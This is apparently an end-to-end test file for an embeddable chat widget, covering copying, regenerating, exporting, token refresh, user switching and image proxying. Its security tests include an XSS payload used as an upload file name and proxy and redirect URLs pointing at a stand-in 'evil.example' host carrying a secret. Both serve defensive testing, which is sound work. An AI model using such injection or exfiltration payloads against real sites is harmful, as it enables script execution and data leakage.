import { readFile } from 'node:fs/promises'
import { expect, test } from 'vitest'
import { ownerToken } from '../harness/server-process.ts'
import { setModelStage } from '../harness/stage.ts'
import { findWidget } from '../harness/widget.ts'
import { toPage } from '../harness/widget-page.ts'

const stage = setModelStage()

async function visit(script?: string) {
  stage.site.show(
    toPage({ host: stage.server.url, options: { config: { bot_id: stage.botId } }, ...(script && { script }) }),
  )
  await stage.visit({ permissions: ['clipboard-read', 'clipboard-write'] })
  await stage.watched.page.goto(stage.site.url)
  return findWidget(stage.watched.page)
}

async function open(script?: string) {
  const widget = await visit(script)
  await widget.open()
  return widget
}

async function ask(widget: ReturnType<typeof findWidget>, question: string, ...answer: string[]) {
  stage.upstream.answerWith(answer)
  await widget.ask(question)
  await widget.waitForIdle()
  await widget.window.getByRole('button', { name: 'Copy', exact: true }).last().waitFor()
}

const turns = () => stage.upstream.requests.at(-1)!.messages.filter(({ role }) => role !== 'system')

// proves: 3.7.copy
test('3.7 copy puts the Markdown of the answer on the clipboard', async () => {
  const widget = await open()
  await ask(widget, 'One', 'Two **bold** words and `code`.')
  await widget.window.getByRole('button', { name: 'Copy', exact: true }).last().click()
  await expect
    .poll(() => stage.watched.page.evaluate('navigator.clipboard.readText()'))
    .toBe('Two **bold** words and `code`.')
  expect(stage.watched.complaints).toEqual([])
})

// proves: 3.7.regenerate, 3.7.edit
test('3.7 answering again and editing replace the old exchange, on the screen, after a reload and for the agent', async () => {
  const widget = await open()
  await ask(widget, 'First question', 'The old answer.')
  stage.upstream.answerWith(['The new answer.'])
  await widget.window.getByRole('button', { name: 'Answer again' }).click()
  await widget.waitForText('The new answer.')
  await widget.waitForIdle()
  expect(await widget.log.getByText('The old answer.').count()).toBe(0)
  expect(turns()).toHaveLength(1)

  await widget.window.getByRole('button', { name: 'Edit and send again' }).click()
  const field = widget.log.getByRole('textbox')
  await field.fill('Second question')
  stage.upstream.answerWith(['The third answer.'])
  await field.press('Enter')
  await widget.waitForText('The third answer.')
  await widget.waitForIdle()
  expect(turns().map(({ content }) => content)).toEqual(['Second question'])

  await stage.watched.page.reload()
  await widget.open()
  await widget.waitForText('The third answer.')
  expect(await widget.log.getByText(/First question|new answer|old answer/).count()).toBe(0)
  expect(stage.watched.complaints).toEqual([])
})

// proves: 2.8.clear-context, 2.8.new-conversation, 2.8.persistence, 3.2.operations
test('2.8 clearing the context keeps the words and forgets them; a new conversation is the one found after a reload', async () => {
  const widget = await open()
  await ask(widget, 'My name is Ada', 'Hello Ada.')
  await widget.window.getByRole('button', { name: 'Clear context' }).click()
  await widget.log.getByText('Context cleared').waitFor()
  await ask(widget, 'Who am I?', 'I do not know.')
  expect(turns().map(({ content }) => content)).toEqual(['Who am I?'])
  expect(await widget.log.getByText('My name is Ada').count()).toBe(1)

  await widget.newConversation.first().click()
  await expect.poll(() => widget.log.getByText('Who am I?').count()).toBe(0)
  await ask(widget, 'Something else', 'Yes.')
  await stage.watched.page.reload()
  await widget.open()
  await widget.waitForText('Something else')
  expect(await widget.log.getByText('Who am I?').count()).toBe(0)
  expect(stage.watched.complaints).toEqual([])
})

// proves: 3.7.export
test('3.7 the conversation is saved as a Markdown file', async () => {
  const widget = await open()
  await ask(widget, 'How **much**?', '| a | b |\n|---|---|\n| 1 | 2 |')
  await widget.window.getByRole('button', { name: 'More' }).click()
  const saved = stage.watched.page.waitForEvent('download')
  await widget.window.getByRole('menuitem', { name: 'Export as Markdown' }).click()
  const text = await readFile((await (await saved).path())!, 'utf8')
  expect(text).toContain('# Test agent')
  expect(text).toContain('How **much**?')
  expect(text).toContain('| 1 | 2 |')
})

// proves: read.lightbox, 3.6.upload, hostile.17
test('9. a picture of a question opens large, and Escape gives the focus back; its name is only a name', async () => {
  const widget = await open()
  stage.upstream.answerWith(['Nice.'])
  const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
  const name = '"><img src=x onerror=window.hit=1>.png'
  const chooser = stage.watched.page.waitForEvent('filechooser')
  await widget.window.getByRole('button', { name: 'Attach files' }).click()
  await (await chooser).setFiles({ name, mimeType: 'image/png', buffer: Buffer.from(pixel, 'base64') })
  await widget.window
    .getByRole('button', { name: /Remove|Delete/ })
    .first()
    .waitFor()
  await widget.input.fill('Look')
  await expect.poll(() => widget.send.isEnabled()).toBe(true)
  await widget.send.click()
  await widget.waitForIdle()

  const picture = widget.log.getByRole('button', { name: /^Zoom/ })
  await picture.click()
  const large = stage.watched.page.getByRole('dialog', { name: /onerror/ }).or(stage.watched.page.locator('.lb'))
  await large.first().waitFor()
  await stage.watched.page.keyboard.press('Escape')
  await large.first().waitFor({ state: 'hidden' })
  expect(await widget.window.isVisible()).toBe(true)
  expect(await picture.evaluate((element) => (element.getRootNode() as ShadowRoot).activeElement === element)).toBe(
    true,
  )
  expect(await stage.watched.page.evaluate('window.hit')).toBeUndefined()
  expect(stage.watched.complaints).toEqual([])
})

// proves: 2.6.exhausted, auth.onRefreshToken, onError
test('2.6 a token that stays refused is the error page; Try again asks the page for another', async () => {
  const widget = await visit(`window.log = []; window.next = 'still-wrong'
    window.client = new CozeWebSDK.WebChatClient({ config: { bot_id: '${stage.botId}' },
      auth: { type: 'token', token: 'wrong', onRefreshToken: (old) => { log.push(old); return next } },
      onError: ({ name, code }) => log.push(name) })`)
  await widget.launcher.click()
  await widget.window.getByRole('alert').waitFor()
  expect(await stage.watched.page.evaluate('log')).toEqual(['wrong', 'unauthenticated'])
  await stage.watched.page.evaluate(`next = '${ownerToken}'`)
  await widget.window.getByRole('button', { name: 'Try again' }).click()
  await widget.input.waitFor()
  expect(await stage.watched.page.evaluate('log')).toEqual(['wrong', 'unauthenticated', 'still-wrong'])
  expect(stage.watched.complaints).toEqual([])
})

// proves: hostile.5, 2.7.switch
test('5. after another user has signed in on the same stage.browser, nothing of the first is shown or kept within reach', async () => {
  const as = (id: string) =>
    `window.client = new CozeWebSDK.WebChatClient({ config: { bot_id: '${stage.botId}' }, userInfo: { id: '${id}' } })`
  const widget = await open(as('ann'))
  await ask(widget, 'The secret of Ann', 'Kept.')
  await widget.input.fill('The draft of Ann')

  stage.site.show(toPage({ host: stage.server.url, options: {}, script: as('bob') }))
  await stage.watched.page.reload()
  await widget.open()
  await widget.window.getByRole('heading', { name: 'Test agent' }).first().waitFor()
  expect(await widget.window.getByText(/Ann/).count()).toBe(0)
  expect(await widget.input.inputValue()).toBe('')
  await ask(widget, 'Who was here?', 'Nobody.')
  expect(JSON.stringify(turns())).not.toContain('Ann')

  stage.site.show(toPage({ host: stage.server.url, options: {}, script: as('ann') }))
  await stage.watched.page.reload()
  await widget.open()
  await widget.waitForText('The secret of Ann')
  expect(await widget.input.inputValue()).toBe('The draft of Ann')
})

// proves: hostile.13, hostile.14
test('14. pictures by way of our own server show nothing of elsewhere and lead nowhere', async () => {
  const widget = await open()
  const evil = encodeURIComponent('https://evil.example/?q=SECRET')
  const ways = [
    `/proxy?url=${evil}`,
    `/v1/files/retrieve?url=${evil}`,
    `/console/login?next=${evil}`,
    `//evil.example/a.png`,
  ]
  const pictures = ways.map(
    (way, index) => `![p${index}](${way.startsWith('//') ? `https:${way}` : stage.server.url + way})`,
  )
  await ask(widget, 'Show', `${pictures.join('\n\n')}\n\nthe end`)
  await widget.waitForText('the end')
  await stage.watched.page.waitForLoadState('networkidle')
  const own = [stage.server.url, stage.site.url, 'data:', 'blob:']
  expect(stage.watched.requests.filter((url) => !own.some((start) => url.startsWith(start)))).toEqual([])
  for (const way of ways.slice(0, 3)) {
    const answer = await fetch(stage.server.url + way, { redirect: 'manual' })
    expect(answer.headers.get('location') ?? '').not.toContain('evil.example')
  }
})

// proves: event.open, event.feedback, member.setInput, member.newConversation
test('5. words put in by the page are in the field and can be sent; opening is told', async () => {
  const widget = await open(
    `window.log = []; window.client = new CozeWebSDK.WebChatClient({ config: { bot_id: '${stage.botId}' } });
     client.on('open', () => log.push('open')); client.on('conversationChanged', ({ conversationId }) => log.push(typeof conversationId))`,
  )
  await stage.watched.page.evaluate("client.setInput('Typed <by> the page')")
  expect(await widget.input.inputValue()).toBe('Typed <by> the page')
  stage.upstream.answerWith(['Yes.'])
  await widget.send.click()
  await widget.waitForText('Typed <by> the page')
  await widget.waitForIdle()
  await stage.watched.page.evaluate('client.newConversation()')
  await expect.poll(() => widget.log.getByText('Typed <by> the page').count()).toBe(0)
  expect(await stage.watched.page.evaluate('log')).toEqual(expect.arrayContaining(['open', 'string', 'undefined']))
  expect(stage.watched.complaints).toEqual([])
})
